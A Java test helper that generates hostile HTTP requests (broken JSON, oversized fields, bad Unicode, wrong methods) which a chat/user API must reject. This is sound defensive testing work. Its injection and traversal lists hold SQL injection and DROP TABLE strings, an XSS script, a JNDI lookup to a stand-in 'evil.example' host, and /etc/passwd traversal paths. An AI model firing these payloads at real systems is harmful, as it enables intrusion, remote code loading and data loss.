package com.practicalsystemdesign.systemtests.reliability;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;

/**
 * The hostile input catalogue: malformed requests generated over every endpoint of
 * docs/api.md, each of which the system must refuse with a 4xx and a JSON body, changing
 * nothing. Every request here is invalid; valid-but-odd values are the round trip's
 * business, not this list's.
 */
final class HostileRequests {

    /**
     * One request as a hostile client sends it: headers as name, value pairs;
     * {@code body} may be null.
     */
    record Hostile(String description, String method, String path, List<String> headers, byte[] body) {

        @Override
        public String toString() {
            return description + " (" + method + " " + (path.length() > 80 ? path.substring(0, 80) + "..." : path)
                    + ")";
        }
    }

    private static final String JSON = "application/json";

    /**
     * A JSON body for each endpoint that takes one, valid but for the part a case breaks.
     */
    private record BodyEndpoint(String name, String method, String path, String validBody, List<String> fields) {
    }

    private final List<Hostile> requests = new ArrayList<>();

    private final List<BodyEndpoint> bodyEndpoints;

    private final long user;

    private final String chat;

    private HostileRequests(long user, String chat) {
        this.user = user;
        this.chat = chat;
        this.bodyEndpoints = List.of(
                new BodyEndpoint("create user", "POST", "/api/users",
                        "{\"name\":\"Mallory\",\"email\":\"mallory@example.com\"}", List.of("name", "email")),
                new BodyEndpoint("update user", "PUT", "/api/users/" + user,
                        "{\"name\":\"Mallory\",\"email\":\"mallory@example.com\"}", List.of("name", "email")),
                new BodyEndpoint("create chat", "POST", "/api/chats", "{\"name\":\"Mallory\",\"metadata\":{\"a\":1}}",
                        List.of("name", "metadata")),
                new BodyEndpoint("add participants", "POST", "/api/chats/" + chat + "/participants",
                        "{\"participant_ids\":[\"mallory\"]}", List.of("participant_ids")));
    }

    /**
     * Every case, against an existing user and an existing chat (so a bug would have
     * something to damage).
     */
    static List<Hostile> against(long user, String chat) {
        HostileRequests catalogue = new HostileRequests(user, chat);
        catalogue.bodyEndpoints.forEach(catalogue::brokenBodies);
        catalogue.bodyEndpoints.forEach(catalogue::wrongFieldTypes);
        catalogue.bodyEndpoints.forEach(catalogue::wrongContentTypes);
        catalogue.fieldLimits();
        catalogue.unstorableUnicode();
        catalogue.injections();
        catalogue.pathTraversal();
        catalogue.numericOverflow();
        catalogue.wrongMethods();
        catalogue.unacceptableAnswers();
        return List.copyOf(catalogue.requests);
    }

    private void brokenBodies(BodyEndpoint endpoint) {
        Map<String, String> broken = Map.ofEntries(Map.entry("empty body", ""),
                Map.entry("whitespace body", "   \n\t "), Map.entry("truncated object", "{\"name\":"),
                Map.entry("unclosed object", "{"), Map.entry("trailing comma", "{\"name\":\"a\",}"),
                Map.entry("single quotes", "{'name':'a'}"), Map.entry("unquoted keys", "{name:\"a\"}"),
                Map.entry("text after the object", endpoint.validBody() + " trailing"),
                Map.entry("two objects", endpoint.validBody() + endpoint.validBody()),
                Map.entry("NaN", "{\"name\":NaN}"), Map.entry("comment", "{/* hi */\"name\":\"a\"}"),
                Map.entry("JSON null", "null"), Map.entry("JSON array", "[" + endpoint.validBody() + "]"),
                Map.entry("JSON string", "\"" + endpoint.name() + "\""),
                Map.entry("JSON number", "12345678901234567890"),
                Map.entry("deeply nested arrays",
                        "{\"" + endpoint.fields().getFirst() + "\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"),
                Map.entry("deeply nested objects", "{\"x\":".repeat(5_000) + "1" + "}".repeat(5_000)));
        broken.forEach((what, body) -> body(endpoint, what, JSON, body.getBytes(StandardCharsets.UTF_8)));
        body(endpoint, "binary garbage", JSON, garbage());
        body(endpoint, "invalid UTF-8", JSON, bytes("{\"name\":\"", new byte[] { (byte) 0xC3, 0x28 }, "\"}"));
        body(endpoint, "overlong UTF-8 slash", JSON,
                bytes("{\"name\":\"", new byte[] { (byte) 0xC0, (byte) 0xAF }, "\"}"));
        body(endpoint, "UTF-16 bytes declared as UTF-8", JSON, endpoint.validBody().getBytes(StandardCharsets.UTF_16));
        body(endpoint, "2 MiB body", JSON,
                ("{\"" + endpoint.fields().getFirst() + "\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}")
                    .getBytes(StandardCharsets.UTF_8));
        body(endpoint, "600 KiB string", JSON,
                ("{\"" + endpoint.fields().getFirst() + "\":\"" + "x".repeat(600 * 1024) + "\"}")
                    .getBytes(StandardCharsets.UTF_8));
    }

    private void wrongFieldTypes(BodyEndpoint endpoint) {
        Map<String, String> wrong = Map.of("a number", "42", "a boolean", "true", "an object", "{\"x\":1}",
                "a float overflowing double", "1e999999");
        for (String field : endpoint.fields()) {
            if (field.equals("metadata")) {
                json(endpoint, "metadata as a string", "{\"name\":\"Mallory\",\"metadata\":\"x\"}");
                json(endpoint, "metadata as an array", "{\"name\":\"Mallory\",\"metadata\":[1,2]}");
                json(endpoint, "metadata as a number", "{\"name\":\"Mallory\",\"metadata\":7}");
                continue;
            }
            wrong.forEach((what, value) -> json(endpoint, field + " as " + what, replace(endpoint, field, value)));
            if (!field.equals("participant_ids")) {
                json(endpoint, field + " as an array", replace(endpoint, field, "[\"a\"]"));
            }
        }
        if (endpoint.method().equals("POST")) {
            // On an update, null and absent fields mean "unchanged": valid there.
            json(endpoint, "no known field", "{\"unrelated\":1}");
            for (String field : endpoint.fields()) {
                if (!field.equals("metadata")) {
                    json(endpoint, field + " null", replace(endpoint, field, "null"));
                }
            }
        }
    }

    private void wrongContentTypes(BodyEndpoint endpoint) {
        byte[] valid = endpoint.validBody().getBytes(StandardCharsets.UTF_8);
        for (String type : List.of("text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "image/png")) {
            body(endpoint, "valid JSON sent as " + type, type, valid);
        }
        body(endpoint, "valid JSON without a Content-Type", null, valid);
    }

    private void fieldLimits() {
        String tooLong = "x".repeat(101);
        json("POST", "/api/users", "name of 101 characters",
                "{\"name\":\"" + tooLong + "\",\"email\":\"long@example.com\"}");
        json("POST", "/api/users", "name of 10000 characters",
                "{\"name\":\"" + "x".repeat(10_000) + "\",\"email\":\"long@example.com\"}");
        json("POST", "/api/users", "blank name", "{\"name\":\"   \",\"email\":\"blank@example.com\"}");
        json("POST", "/api/users", "email of 256 characters",
                "{\"name\":\"Mallory\",\"email\":\"" + "a".repeat(244) + "@example.com\"}");
        json("POST", "/api/users", "email without a domain dot",
                "{\"name\":\"Mallory\",\"email\":\"mallory@localhost\"}");
        json("PUT", "/api/users/" + user, "update to an empty name", "{\"name\":\"\"}");
        json("PUT", "/api/users/" + user, "update to a name of 101 characters", "{\"name\":\"" + tooLong + "\"}");
        json("PUT", "/api/users/" + user, "update to a bad email", "{\"email\":\"not an email\"}");
        json("POST", "/api/chats", "chat name of 101 characters", "{\"name\":\"" + tooLong + "\"}");
        json("POST", "/api/chats", "blank chat name", "{\"name\":\" \"}");
        json("POST", "/api/chats", "metadata over 8 KiB",
                "{\"name\":\"a\",\"metadata\":{\"k\":\"" + "x".repeat(9000) + "\"}}");
        json("POST", "/api/chats", "metadata with an empty key", "{\"name\":\"a\",\"metadata\":{\"\":1}}");
        json("POST", "/api/chats", "metadata nested 40 levels",
                "{\"name\":\"a\",\"metadata\":" + "{\"a\":".repeat(40) + "1" + "}".repeat(40) + "}");
        String participants = "/api/chats/" + chat + "/participants";
        json("POST", participants, "no participant ids", "{\"participant_ids\":[]}");
        json("POST", participants, "101 participant ids", "{\"participant_ids\":[" + "\"p\",".repeat(100) + "\"p\"]}");
        json("POST", participants, "participant id of 129 characters",
                "{\"participant_ids\":[\"" + "p".repeat(129) + "\"]}");
        json("POST", participants, "blank participant id", "{\"participant_ids\":[\"  \"]}");
        json("POST", participants, "null participant id", "{\"participant_ids\":[null]}");
        json("POST", participants, "nested participant id", "{\"participant_ids\":[[\"p\"]]}");
        json("POST", "/api/chats/chat-000000000000/participants", "participants of a chat that does not exist",
                "{\"participant_ids\":[\"p\"]}");
    }

    /**
     * NUL and unpaired surrogates: valid JSON escapes, but no text PostgreSQL can store
     * as sent.
     */
    private void unstorableUnicode() {
        Map<String, String> unstorable = Map.of("NUL", "a\\u0000b", "lone high surrogate", "a\\ud800b",
                "lone low surrogate", "\\udc00", "reversed surrogate pair", "\\ude00\\ud83d");
        unstorable.forEach((what, escaped) -> {
            json("POST", "/api/users", what + " in a name",
                    "{\"name\":\"" + escaped + "\",\"email\":\"u@example.com\"}");
            json("POST", "/api/users", what + " in an email",
                    "{\"name\":\"U\",\"email\":\"u" + escaped + "@example.com\"}");
            json("PUT", "/api/users/" + user, what + " in an updated name", "{\"name\":\"" + escaped + "\"}");
        });
    }

    /**
     * Injection strings where the API refuses them: not an email, not an id, not a
     * number.
     */
    private void injections() {
        json("POST", "/api/users", "SQL injection as the email", "{\"name\":\"M\",\"email\":\"' OR '1'='1' --\"}");
        json("POST", "/api/users", "SQL injection after an email",
                "{\"name\":\"M\",\"email\":\"m@example.com'; DROP TABLE users;--\"}");
        json("POST", "/api/users", "script as the email", "{\"name\":\"M\",\"email\":\"<script>alert(1)</script>\"}");
        json("PUT", "/api/users/" + user, "SQL injection as the new email", "{\"email\":\"x' OR 1=1\"}");
        for (String id : List.of("1 OR 1=1", "1; DROP TABLE users", "1' OR '1'='1", "<script>alert(1)</script>",
                "${jndi:ldap://evil.example/a}", "{{7*7}}")) {
            bare("GET", "/api/users/" + encode(id), "injection as a user id: " + id);
            bare("DELETE", "/api/users/" + encode(id), "injection as a user id to delete: " + id);
            bare("GET", "/api/chats/" + encode(id), "injection as a chat id: " + id);
            bare("DELETE", "/api/chats/" + encode(id), "injection as a chat id to delete: " + id);
            bare("DELETE", "/api/chats/" + chat + "/participants/" + encode(id),
                    "injection as a participant to remove: " + id);
        }
        bare("GET", "/api/users?limit=1;DROP%20TABLE%20users", "injection as the limit");
        bare("GET", "/api/users?offset=0%20OR%201=1", "injection as the offset");
    }

    private void pathTraversal() {
        for (String path : List.of("/api/users/..%2F..%2F..%2Fetc%2Fpasswd", "/api/users/%2e%2e/%2e%2e/actuator/health",
                "/api/chats/..%2F..%2Factuator%2Fenv", "/api/users/1/..%2F..%2F..%2Factuator",
                "/api/users/%252e%252e%252factuator", "/api/chats/%252e%252e%252f%252e%252e%252fusers",
                "/api/users/%00", "/api/chats/%00/participants", "/api/users/..%5C..%5Cwindows%5Cwin.ini",
                "/api/chats/participant/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/api/users/1/extra",
                "/api/chats/" + chat + "/participants/p/extra", "/api/users.json", "/actuator/health", "/api/usersXYZ",
                "/api/users/%2e%2e%2f%2e%2e%2fv3/api-docs")) {
            bare("GET", path, "path traversal " + path);
        }
    }

    private void numericOverflow() {
        for (String id : List.of("9223372036854775808", "-9223372036854775809", "1e309", "99999999999999999999999999",
                "0x7fffffffffffffff", "1.5", "NaN", "Infinity")) {
            bare("GET", "/api/users/" + id, "user id " + id);
            bare("PUT", "/api/users/" + id, "user id to update " + id, JSON, "{\"name\":\"M\"}");
        }
        for (String query : List.of("limit=2147483648", "limit=-2147483649", "limit=0", "limit=1001", "limit=1e3",
                "limit=NaN", "offset=9223372036854775808", "offset=-1", "offset=abc")) {
            bare("GET", "/api/users?" + query, "list with " + query);
        }
    }

    private void wrongMethods() {
        String userPath = "/api/users/" + user;
        String chatPath = "/api/chats/" + chat;
        List<String[]> wrong = List.of(new String[] { "PATCH", userPath }, new String[] { "PATCH", "/api/users" },
                new String[] { "DELETE", "/api/users" }, new String[] { "PUT", "/api/users" },
                new String[] { "POST", userPath }, new String[] { "TRACE", "/api/users" },
                new String[] { "PUT", "/api/chats" }, new String[] { "DELETE", "/api/chats" },
                new String[] { "GET", "/api/chats" }, new String[] { "PATCH", chatPath },
                new String[] { "PUT", chatPath }, new String[] { "POST", chatPath },
                new String[] { "GET", chatPath + "/participants" }, new String[] { "PUT", chatPath + "/participants" },
                new String[] { "DELETE", chatPath + "/participants" },
                new String[] { "GET", chatPath + "/participants/p" },
                new String[] { "POST", "/api/chats/participant/p" },
                new String[] { "DELETE", "/api/chats/participant/p" }, new String[] { "POST", "/api/users/health" },
                new String[] { "DELETE", "/api/chats/health" }, new String[] { "PUT", "/health" },
                new String[] { "POST", "/health" }, new String[] { "FOO", "/api/users" },
                new String[] { "PROPFIND", chatPath });
        for (String[] request : wrong) {
            bare(request[0], request[1], "wrong method " + request[0] + " " + request[1], JSON, "{}");
        }
    }

    /**
     * Every GET endpoint asked for a representation it cannot give, and one URI too long
     * for the gateway.
     */
    private void unacceptableAnswers() {
        for (String path : List.of("/api/users", "/api/users/" + user, "/api/users/health", "/api/chats/" + chat,
                "/api/chats/participant/p", "/api/chats/health")) {
            for (String accept : List.of("application/xml", "text/html")) {
                requests.add(new Hostile("GET " + path + " accepting only " + accept, "GET", path,
                        List.of("Accept", accept), null));
            }
        }
        bare("GET", "/api/chats/participant/" + "p".repeat(9 * 1024), "participant id of 9 KiB in the URI");
    }

    private void body(BodyEndpoint endpoint, String what, String contentType, byte[] body) {
        requests.add(new Hostile(endpoint.name() + ": " + what, endpoint.method(), endpoint.path(),
                contentType(contentType), body));
    }

    private void json(BodyEndpoint endpoint, String what, String body) {
        body(endpoint, what, JSON, body.getBytes(StandardCharsets.UTF_8));
    }

    private void json(String method, String path, String what, String body) {
        bare(method, path, what, JSON, body);
    }

    private void bare(String method, String path, String what) {
        requests.add(new Hostile(what, method, path, List.of(), null));
    }

    private void bare(String method, String path, String what, String contentType, String body) {
        requests.add(new Hostile(what, method, path, contentType(contentType), body.getBytes(StandardCharsets.UTF_8)));
    }

    private static List<String> contentType(String type) {
        return type == null ? List.of() : List.of("Content-Type", type);
    }

    /** The endpoint's valid body with one field's value replaced by raw JSON. */
    private static String replace(BodyEndpoint endpoint, String field, String value) {
        return endpoint.validBody()
            .replaceFirst("\"" + field + "\":(\"[^\"]*\"|\\{[^}]*\\}|\\[[^\\]]*\\])",
                    "\"" + field + "\":" + Matcher.quoteReplacement(value));
    }

    static String encode(String segment) {
        return URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] garbage() {
        byte[] bytes = new byte[512];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) (i * 7919 % 256);
        }
        return bytes;
    }

    private static byte[] bytes(String before, byte[] middle, String after) {
        byte[] start = before.getBytes(StandardCharsets.UTF_8);
        byte[] end = after.getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[start.length + middle.length + end.length];
        System.arraycopy(start, 0, all, 0, start.length);
        System.arraycopy(middle, 0, all, start.length, middle.length);
        System.arraycopy(end, 0, all, start.length + middle.length, end.length);
        return all;
    }

}
